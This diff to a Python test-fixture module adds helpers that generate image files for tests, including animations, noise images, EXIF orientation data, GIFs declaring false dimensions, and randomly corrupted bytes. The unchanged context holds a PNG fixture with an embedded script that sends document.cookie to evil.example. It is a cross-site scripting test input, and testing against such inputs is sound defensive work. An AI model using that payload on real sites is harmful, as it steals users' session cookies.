@@ -3,6 +3,7 @@
 import struct
 import zlib
 from io import BytesIO
+from random import Random
 from typing import Any
 
 from PIL import Image
@@ -50,3 +51,57 @@ def scripted_png() -> bytes:
     whole = picture("PNG")
     comment = _chunk(b"tEXt", b"Comment\0<script>fetch('//evil.example?' + document.cookie)</script>")
     return whole[:33] + comment + whole[33:]
+
+
+def frames(kind: str, count: int = 3) -> bytes:
+    """An animation, or of MPO the pictures of several lenses."""
+    first, *others = [_noise((40, 30), seed).convert("RGB") for seed in range(count)]
+    out = BytesIO()
+    first.save(out, kind, save_all=True, append_images=others)
+    return out.getvalue()
+
+
+def noise(kind: str, mode: str = "RGB", **options: Any) -> bytes:
+    """A small picture of noise: each of its bytes matters."""
+    out = BytesIO()
+    _noise((60, 40), 0).convert(mode).save(out, kind, **options)
+    return out.getvalue()
+
+
+def _noise(size: tuple[int, int], seed: int) -> Image.Image:
+    return Image.frombytes("L", size, Random(seed).randbytes(size[0] * size[1]))
+
+
+def turned(orientation: int = 6) -> bytes:
+    """EXIF data with this orientation."""
+    exif = Image.Exif()
+    exif[0x0112] = orientation
+    return exif.tobytes()
+
+
+def sized_gif(width: int, height: int) -> bytes:
+    """A GIF that says it has so many pixels."""
+    return b"GIF89a" + struct.pack("<HH", width, height) + picture("GIF", size=(8, 8))[10:]
+
+
+def half_animated_gif() -> bytes:
+    """An animation that is cut off in the head of its second frame."""
+    whole = frames("GIF")
+    return whole[: whole.index(b"\x21\xf9\x04", whole.index(b"\x21\xf9\x04") + 3) + 3]
+
+
+def break_bytes(content: bytes, random: Random) -> bytes:
+    """The file cut off, with bytes of another value, or with some more between them."""
+    broken = bytearray(content)
+    way = random.random()
+    if way < 0.4:
+        del broken[random.randrange(len(broken)) :]
+    if way > 0.3 and broken:
+        for _ in range(random.choice([1, 1, 2, 5, 20])):
+            broken[random.randrange(random.choice([min(64, len(broken)), len(broken)]))] = random.choice(
+                [0, 255, random.randrange(256)]
+            )
+    if way > 0.9:
+        place = random.randrange(len(broken))
+        broken[place:place] = random.randbytes(random.randrange(1, 50))
+    return bytes(broken)
